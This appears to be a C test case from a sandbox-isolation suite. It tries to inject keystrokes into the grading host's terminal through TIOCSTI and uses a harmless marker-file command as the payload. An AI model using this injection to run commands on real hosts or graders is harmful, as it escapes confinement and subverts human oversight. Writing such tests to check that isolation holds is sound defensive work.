// Tries: types a command into the terminal of the person who grades
// (TIOCSTI).
// aims at: the host
// leaves no: @WORK@/raftlab-attack-typed
// wall: session
#include "stub.h"
#include <sys/ioctl.h>

static void type_into(int terminal)
{
    for (const char *key = "touch " WORK "/raftlab-attack-typed\n";
         *key != '\0'; key++)
        if (hidden_call(SYS_ioctl, (long)terminal, (long)TIOCSTI, key) == 0)
            got_through("a terminal");
}

static void attack(struct raft *rf)
{
    (void)rf;
    for (int fd = 0; fd < 3; fd++)
        type_into(fd);
    type_into(open("/dev/tty", O_RDWR));
    stopped();
}
